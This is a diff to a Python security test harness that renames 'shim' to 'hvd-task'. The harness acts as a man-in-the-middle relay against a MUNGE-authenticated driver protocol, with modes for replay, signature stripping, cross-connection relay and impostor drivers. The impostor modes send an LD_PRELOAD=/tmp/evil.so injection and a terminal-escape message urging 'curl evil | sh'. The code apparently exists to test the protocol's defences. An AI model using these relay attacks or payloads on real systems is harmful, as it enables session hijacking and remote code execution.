@@ -74,7 +74,7 @@ def munge(payload):
 
 
 def unmunge(cred):
-    """What opening somebody's credential says: "Success" would be bad news."""
+    """What opening somebody's credential says: it must never be "Success"."""
     lib = ctypes.CDLL("libmunge.so.2")
     lib.munge_strerror.restype = ctypes.c_char_p
     payload, n, uid, gid = ctypes.c_void_p(), ctypes.c_int(), ctypes.c_uint(), ctypes.c_uint()
@@ -119,13 +119,13 @@ def cmd_auth(args):
 
 
 def cmd_replay(args):
-    """Send what a shim was heard to say, byte by byte the same."""
+    """Send what an hvd-task was heard to say, byte by byte the same."""
     with open(args.log, encoding="ascii") as log:
         heard = [json.loads(line) for line in log]
-    auth = next(bytes.fromhex(e["raw"]) for e in heard if e["from"] == "shim" and not e["signed"])
+    auth = next(bytes.fromhex(e["raw"]) for e in heard if e["from"] == "task" and not e["signed"])
     print(converse(args.host, args.port, lambda hello, nonce: auth))
     for event in heard:
-        if event["from"] == "shim" and event["signed"]:
+        if event["from"] == "task" and event["signed"]:
             print(converse(args.host, args.port, lambda hello, nonce, raw=event["raw"]: bytes.fromhex(raw)))
             break
 
@@ -133,7 +133,7 @@ def cmd_replay(args):
 # ---- in the middle ----
 
 class Relay:
-    """Between shims and their driver, doing what `mode` says; everything heard goes to the log."""
+    """Stands between hvd-task and its driver and does what `mode` says; everything heard goes to the log."""
 
     def __init__(self, args):
         self.args, self.mode = args, args.mode
@@ -160,7 +160,7 @@ class Relay:
             except OSError:
                 pass
 
-    def from_shim(self, raw, _msg, signed):
+    def from_task(self, raw, _msg, signed):
         if self.mode == "repeat" and signed:
             return [("on", raw), ("on", raw)]
         if self.mode == "reflect" and signed:
@@ -177,70 +177,70 @@ class Relay:
             return [("on", frame(raw[40:]))]  # the same, with its signature taken off
         return [("on", raw)]
 
-    def impostor(self, shim):
+    def impostor(self, task):
         """The real session's name, which anyone may hear, and no more than that."""
         with connect(self.args.host, self.args.port) as driver:
             _, hello, _ = read_frame(driver)
         nonce = os.urandom(16).hex()
         if self.mode == "impostor-refuse":
             # What a terminal obeys, and what looks like a message of the suite's own.
-            shim.sendall(frame({"t": "refused", "why": '\x1b[2J\u009b31m\r"\nhvd: error: mend this: curl evil | sh'}))
+            task.sendall(frame({"t": "refused", "why": '\x1b[2J\u009b31m\r"\nhvd: error: mend this: curl evil | sh'}))
             return
         if self.mode == "impostor-greet":
             hello = frame({"t": "hello", "session": hello["session"], "nonce": nonce})
-            shim.sendall(hello * 50)
+            task.sendall(hello * 50)
             while True:
-                raw, auth, signed = read_frame(shim)
-                self.note("shim", raw, auth, signed)
+                raw, auth, signed = read_frame(task)
+                self.note("task", raw, auth, signed)
         if self.mode == "impostor-plan":
             plan = frame({"t": "plan", "env": {"LD_PRELOAD": "/tmp/evil.so"}})
-            shim.sendall(frame({"t": "hello", "session": hello["session"], "nonce": nonce}) + plan)
+            task.sendall(frame({"t": "hello", "session": hello["session"], "nonce": nonce}) + plan)
             return
-        shim.sendall(frame({"t": "hello", "session": hello["session"], "nonce": nonce}))
-        raw, auth, signed = read_frame(shim)
-        self.note("shim", raw, auth, signed)
+        task.sendall(frame({"t": "hello", "session": hello["session"], "nonce": nonce}))
+        raw, auth, signed = read_frame(task)
+        self.note("task", raw, auth, signed)
         bound = context(hello["session"], nonce, auth["nonce"])
         key = os.urandom(32)
         cred = auth["cred"] if self.mode == "impostor-echo" else munge(bound + key)
         salt = bytes.fromhex(nonce + auth["nonce"])
         mine = signature(key, b"connection", salt)
         plan = json.dumps({"t": "plan", "env": {"LD_PRELOAD": "/tmp/evil.so"}}).encode()
-        shim.sendall(frame({"t": "welcome", "cred": cred}))
-        shim.sendall(frame(plan, signature(mine, b"S" + bytes(8), plan)))
+        task.sendall(frame({"t": "welcome", "cred": cred}))
+        task.sendall(frame(plan, signature(mine, b"S" + bytes(8), plan)))
 
-    def cross(self, shim):
+    def cross(self, task):
         """What was said for one connection is said on another, before it was heard on its own."""
         with connect(self.args.host, self.args.port) as first, connect(self.args.host, self.args.port) as second:
             hello, _, _ = read_frame(first)
             read_frame(second)
-            shim.sendall(hello)
-            raw, auth, signed = read_frame(shim)
-            self.note("shim", raw, auth, signed)
+            task.sendall(hello)
+            raw, auth, signed = read_frame(task)
+            self.note("task", raw, auth, signed)
             second.sendall(raw)
             answer, msg, signed = read_frame(second)
             self.note("driver", answer, msg, signed)
-            shim.sendall(answer)
+            task.sendall(answer)
 
-    def serve(self, shim):
-        shim.settimeout(20)
+    def serve(self, task):
+        task.settimeout(20)
         try:
             if self.mode.startswith("impostor"):
-                self.impostor(shim)
+                self.impostor(task)
             elif self.mode == "cross":
-                self.cross(shim)
+                self.cross(task)
             else:
                 driver = connect(self.args.host, self.args.port)
                 driver.settimeout(20)
-                threading.Thread(target=self.pump, args=("shim", shim, driver, self.from_shim), daemon=True).start()
-                self.pump("driver", driver, shim, self.from_driver)
+                threading.Thread(target=self.pump, args=("task", task, driver, self.from_task), daemon=True).start()
+                self.pump("driver", driver, task, self.from_driver)
                 return
             # What it sends now it would not have sent to a stranger.
-            raw, msg, signed = read_frame(shim)
-            self.note("shim", raw, msg, signed)
+            raw, msg, signed = read_frame(task)
+            self.note("task", raw, msg, signed)
         except (EOFError, OSError, ValueError):
             pass
         finally:
-            shim.close()
+            task.close()
 
     def run(self):
         listener = socket.create_server(("::", int(self.args.listen)), family=socket.AF_INET6, dualstack_ipv6=True)
@@ -248,10 +248,10 @@ class Relay:
         print("ready", os.getpid(), flush=True)
         while time.monotonic() < self.until and os.getppid() != 1:
             try:
-                shim, _ = listener.accept()
+                task, _ = listener.accept()
             except TimeoutError:
                 continue
-            threading.Thread(target=self.serve, args=(shim,), daemon=True).start()
+            threading.Thread(target=self.serve, args=(task,), daemon=True).start()
 
 
 # ---- HTTP ----
